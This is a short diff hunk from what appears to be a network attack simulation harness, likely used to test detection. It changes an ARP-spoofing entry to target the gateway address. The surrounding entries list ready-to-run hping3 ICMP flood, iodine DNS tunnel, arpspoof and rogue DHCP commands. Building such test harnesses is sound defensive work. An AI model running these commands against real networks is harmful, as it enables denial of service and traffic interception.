@@ -93,8 +93,8 @@ ATTACKS = (
            names="victim"),
     Attack("hping3 --icmp", "icmp_flood", _command("hping3 -q --icmp -i u300 -c 24000 {victim}"), names="victim"),
     Attack("iodine", "dns_tunnel", _iodine, rounds=1),
-    # Another victim's address each time: of one that is contested already, a second spoofer is not told apart.
-    Attack("arpspoof", "arp_spoof", _command(f"arpspoof -i eth0 -t {BY_NAME['client1'].ip4} {{victim}}"), rounds=3),
+    # All claim one address, one after the other: each is told apart from those before.
+    Attack("arpspoof", "arp_spoof", _command(f"arpspoof -i eth0 -t {BY_NAME['client1'].ip4} {GATEWAY4}")),
     Attack("dnsmasq", "rogue_dhcp", _rogue_dhcp),
 )  # fmt: skip
 
